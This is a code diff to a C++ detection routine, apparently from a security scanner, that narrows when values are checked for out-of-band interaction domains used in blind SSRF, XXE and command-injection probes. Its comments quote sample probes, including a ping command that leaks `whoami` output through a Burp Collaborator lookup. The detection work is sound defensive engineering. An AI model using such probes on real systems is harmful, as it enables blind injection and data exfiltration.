@@ -832,11 +832,13 @@ void DetectSsrfRfi(const ValueView& v, DetectorScratch& scratch, FindingSink& si
       }
     }
   }
-  // Out-of-band interaction domains anywhere in the value, not only as a URL host
+  // Out-of-band interaction domains anywhere in a short value, not only as a URL host
   // ("nslookup x.oast.fun", "ping -c1 `whoami`.abc.burpcollaborator.net"): blind command,
   // SSRF and XXE probes wait for a lookup of that name. A label must come before the domain
-  // and the name must end there ("oast.me.uk" is another domain).
-  if (b.score < 0.85f && AnyMayOccur(lower, kOutOfBandDomains)) {
+  // and the name must end there ("oast.me.uk" is another domain). Probes are short; in long
+  // documents only URL hosts (above) are judged.
+  if (b.score < 0.85f && n <= 256 && Find(lower, '.') != std::string_view::npos &&
+      AnyMayOccur(lower, kOutOfBandDomains)) {
     static const NeedleSet kOob(kOutOfBandDomains);
     std::size_t first[std::size(kOutOfBandDomains)];
     kOob.FirstAll(lower, first);
